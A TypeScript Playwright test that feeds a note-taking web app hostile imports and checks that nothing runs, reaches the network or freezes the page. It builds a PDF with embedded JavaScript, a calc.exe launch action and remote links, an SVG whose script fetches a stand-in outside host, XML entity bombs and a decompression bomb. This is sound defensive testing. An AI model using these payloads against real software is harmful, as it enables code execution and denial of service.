/** Hostile PDFs, pictures, ink and sound: each is told in words or comes in, nothing of it runs or asks the network for anything, and the page is never blocked. */
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect } from '@playwright/test';
import { deflateSync, zlibSync } from 'fflate';
import { writeInkml } from '../../src/core/formats/inkml/write';
import { button, startBrowser, startServer, tempFolder } from '../helpers/app';
import { assembled } from '../helpers/pdfs';
import { records } from '../helpers/disk';
import { someHand, somePage } from '../helpers/faces';
import { BALL, strokesOf } from '../helpers/ink';
import { pageErrors } from '../helpers/tap';
import { attempt, chance, longestTask, pick, stands, watchTasks, type Result } from './kit';

/** No page is blocked for longer, ms. */
const BLOCKED_MS = 1000;
/** Everything is told within, ms. */
const TOLD_MS = 90_000;
/** Where a hostile file would send what it learns. */
const ELSEWHERE = 'http://elsewhere.example';

type Random = () => number;
interface Hostile {
  readonly name: string;
  readonly bytes: Uint8Array;
}

const latin = (s: string): Uint8Array => Uint8Array.from(Buffer.from(s, 'latin1'));

/** A PDF of these objects (ISO 32000-1, 7.5), with a table of where each is. */
function pdfOf(objects: readonly string[], trailer = '/Root 1 0 R'): Uint8Array {
  let text = '%PDF-1.7\n';
  const at = objects.map((body, i) => {
    const here = text.length;
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return here;
  });
  const table = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.map((a) => `${String(a).padStart(10, '0')} 00000 n \n`).join('')}trailer << /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${table}\n%%EOF`;
  return latin(text);
}
const stream = (dict: string, data: string): string => `<< ${dict} /Length ${data.length} >>\nstream\n${data}\nendstream`;
const asLatin = (b: Uint8Array): string => Buffer.from(b).toString('latin1');

const MADE: Record<string, (random: Random) => Hostile> = {
  'a PDF that runs and asks': () => ({
    name: 'asks.pdf',
    bytes: pdfOf([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (window.ran = 1; app.alert\\("x"\\)) >> /AA << /WC << /S /URI /URI (${ELSEWHERE}/wc) >> >> >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /AA << /O << /S /Launch /F (calc.exe) >> >> /Resources << /XObject << /X << /F (${ELSEWHERE}/x.pdf) >> >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /GoToR /F (${ELSEWHERE}/r.pdf) /D [0] >> >>] >>`,
      stream('', '/X Do BT ET'),
    ]),
  }),
  'a PDF that unpacks without end': (r) => ({
    name: 'bomb.pdf',
    bytes: pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R >>', stream('/Filter /FlateDecode', asLatin(zlibSync(latin('0 0 m 9 9 l S\n'.repeat(Math.floor(2e6 + r() * 3e6))), { level: 9 })))]),
  }),
  'a PDF of endless pages': (r) => ({
    name: 'endless.pdf',
    bytes: pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [2 0 R 3 0 R] /Count ${Math.floor(10 ** (1 + r() * 9))} >>`, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>']),
  }),
  'a PDF with a page beyond all size': (r) => ({
    name: 'vast.pdf',
    bytes: pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${pick(r, ['1e30', '0', '-5', '99999999', 'NaN', '0.0001'])} ${pick(r, ['1e30', '300', '0'])}] /Rotate ${pick(r, ['45', '1e9', '90'])} >>`]),
  }),
  'a drawing that runs and asks': () => ({
    name: 'asks.svg',
    bytes: latin(
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="60" onload="window.ran=1"><script>window.ran=1;fetch('${ELSEWHERE}/s')</script><style>@import url(${ELSEWHERE}/i.css);rect{fill:url(${ELSEWHERE}/f)}</style><image xlink:href="${ELSEWHERE}/p.png" width="9" height="9"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${ELSEWHERE}/frame"/></foreignObject><a href="javascript:window.ran=1"><rect width="50" height="50"/></a></svg>`,
    ),
  }),
  'a drawing of a thousand million parts': () => ({
    name: 'laughs.svg',
    bytes: latin(`<!DOCTYPE svg [<!ENTITY a "ha">${'bcdefgh'.split('').map((n, i) => `<!ENTITY ${n} "${`&${'abcdefg'[i]};`.repeat(20)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&h;</text></svg>`),
  }),
  'a picture that claims any size': (r) => {
    // PNG (ISO/IEC 15948): a head of 30,000 by 30,000 and nothing behind it.
    const head = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    const size = Buffer.alloc(8);
    size.writeUInt32BE(Math.floor(20_000 + r() * 40_000), 0);
    size.writeUInt32BE(Math.floor(20_000 + r() * 40_000), 4);
    return { name: 'vast.png', bytes: Uint8Array.from(Buffer.concat([head, size, Buffer.from('0806000000deadbeef', 'hex'), Buffer.from(deflateSync(new Uint8Array(1000)))])) };
  },
  'ink that unfolds without end': () => ({ name: 'laughs.inkml', bytes: latin(`<!DOCTYPE ink [<!ENTITY a "1 1,">${'bcdefgh'.split('').map((n, i) => `<!ENTITY ${n} "${`&${'abcdefg'[i]};`.repeat(20)}">`).join('')}]><ink xmlns="http://www.w3.org/2003/InkML"><trace>&h;</trace></ink>`) }),
  'ink that builds on itself': (r) => ({
    name: 'circle.inkml',
    bytes: latin(`<ink xmlns="http://www.w3.org/2003/InkML"><definitions><context xml:id="c" contextRef="#c"/><brush xml:id="b" brushRef="#b"/><traceGroup xml:id="g"><traceView traceDataRef="#g"/><traceView traceDataRef="#g"/></traceGroup></definitions>${'<traceGroup>'.repeat(Math.floor(r() * 3000))}<traceView traceDataRef="#g"/></ink>`),
  }),
  'ink beyond all size': (r) => ({
    name: 'vast.inkml',
    bytes: latin(`<ink xmlns="http://www.w3.org/2003/InkML"><definitions><traceFormat><channel name="X" units="${pick(r, ['m', 'mm', ''])}"/><channel name="Y"/><channel name="T"/></traceFormat></definitions><trace>${pick(r, ['1e308 1 1, -1e308 2 9e15', '0 0 0, 9999999999 1 1', 'NaN 1 1', '* * *, ? ? ?', "'1'1'1,\"9e9\"9e9\"9e9,1 1 1,1 1 1"])}</trace></ink>`),
  }),
  'a GIF that claims any size': () => ({ name: 'vast.gif', bytes: Uint8Array.from(Buffer.concat([Buffer.from('GIF89a', 'latin1'), Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0, 2, 2, 0x4c, 1, 0, 0x3b])])) }),
};

/** What happens to files that are sound. */
const HARM: readonly ((b: Uint8Array, r: Random) => Uint8Array)[] = [
  (b, r) => b.slice(0, Math.floor(r() * b.length)),
  (b, r) => {
    const out = b.slice();
    for (let i = 0; i < 1 + r() * 30; i++) out[Math.floor(r() * out.length)] ^= 1 << Math.floor(r() * 8);
    return out;
  },
  (b, r) => {
    const out = b.slice();
    const at = Math.floor(r() * out.length);
    for (let i = at; i < Math.min(out.length, at + 1 + r() * 3000); i++) out[i] = Math.floor(r() * 256);
    return out;
  },
];

async function sound(folder: string): Promise<readonly Hostile[]> {
  const make = (name: string, args: readonly string[]): Hostile => {
    const file = path.join(folder, name);
    execFileSync('ffmpeg', ['-v', 'error', '-y', ...args, file]);
    return { name, bytes: new Uint8Array(readFileSync(file)) };
  };
  const tone = ['-f', 'lavfi', '-i', 'sine=frequency=440:duration=3'];
  const test = ['-f', 'lavfi', '-i', 'testsrc2=size=160x120:rate=5:duration=2'];
  return [
    ...['tone.wav', 'tone.mp3', 'tone.m4a', 'tone.ogg', 'tone.webm', 'tone.flac'].map((name) => make(name, tone)),
    make('film.mp4', [...test, ...tone, '-pix_fmt', 'yuv420p']),
    make('moving.gif', test),
    ...['still.png', 'still.jpg', 'still.webp'].map((name) => make(name, [...test, '-frames:v', '1'])),
    { name: 'lines.inkml', bytes: latin(writeInkml(strokesOf(somePage('prose', someHand('kalam', chance(1)), 1).flatMap((w) => w.strokes)).map((s, i) => ({ ...s, id: `s${i}`, page: 'p', pen: BALL })))) },
    { name: 'assembled.pdf', bytes: new Uint8Array(readFileSync((await assembled(folder)).file)) },
  ];
}

export async function imports(seed: number, times: number): Promise<Result> {
  const random = chance(seed);
  const broken: string[] = [];
  const folder = tempFolder();
  const whole = await sound(folder);
  const server = await startServer();
  const context = await startBrowser();
  const left: string[] = [];
  context.on('request', (r) => {
    if (!r.url().startsWith(server.url) && !/^(blob|data):/.test(r.url())) left.push(r.url());
  });
  await watchTasks(context);
  const page = context.pages()[0];
  page.on('dialog', (d) => {
    left.push(`a dialog: ${d.message()}`);
    void d.dismiss();
  });
  await stands(page, server.url);
  const told: Record<'refused' | 'brought', number> = { refused: 0, brought: 0 };
  let longest = 0;
  for (let k = 0; k < times; k++) {
    const own = random() < 0.35 ? pick(random, Object.entries(MADE)) : null;
    const base = pick(random, whole);
    const { name, bytes } = own ? own[1](random) : { name: base.name, bytes: pick(random, HARM)(base.bytes, random) };
    const how = `file ${k} of seed ${seed}, ${own?.[0] ?? `harmed ${name}`}`;
    await attempt(broken, how, async () => {
      const file = path.join(folder, `hostile-${name}`);
      writeFileSync(file, bytes);
      const before = Object.keys(await records(page, 'scrivo')).filter((key) => key.startsWith('note/')).length;
      await page.getByRole('button', { name: 'Bring in', exact: true }).click();
      const [chooser] = await Promise.all([page.waitForEvent('filechooser'), button(page, 'Choose files').click()]);
      await longestTask(page);
      await chooser.setFiles(file);
      const sheet = page.getByRole('dialog');
      const refused = sheet.getByRole('alert').filter({ hasText: /\. Nothing was changed\.|cannot be brought in: / });
      const offer = sheet.getByRole('button', { name: 'Bring in', exact: true });
      const locked = sheet.getByLabel(/Password/);
      await refused.or(offer).or(locked).first().waitFor({ timeout: TOLD_MS });
      let words = '';
      if (await offer.isEnabled().catch(() => false)) {
        await offer.click();
        const failed = page.getByText(/Nothing was changed\.|nothing of it was kept\./);
        await page.getByTestId('page-1').or(failed).first().waitFor({ timeout: TOLD_MS });
        if (await failed.count()) words = (await failed.allTextContents()).join(' ');
      } else words = (await refused.allTextContents()).join(' ') || 'It asks for a password.';
      longest = Math.max(longest, await longestTask(page));
      if (words) {
        told.refused++;
        expect(words, 'no words of the program').not.toMatch(/undefined|\[object|TypeError|NaN|ZodError|at \w+ \(/);
        await expect.poll(async () => Object.keys(await records(page, 'scrivo')).filter((key) => key.startsWith('note/')).length).toBe(before);
      } else told.brought++;
      expect(await page.evaluate('window.ran')).toBeUndefined();
      expect(left, 'what left the program').toEqual([]);
      expect(await pageErrors(page)).toEqual([]);
      expect(longest, 'the page was blocked, ms').toBeLessThanOrEqual(BLOCKED_MS);
    });
    await page.goto(server.url);
    await page.getByRole('button', { name: 'Bring in', exact: true }).waitFor();
  }
  await attempt(broken, 'after all files', () => stands(page, server.url));
  await context.close().catch((e: unknown) => broken.push(String(e)));
  await server.close();
  return { what: 'hostile imports', times, broken, notes: `${told.refused} refused, ${told.brought} brought in; longest task ${longest.toFixed(0)} ms` };
}
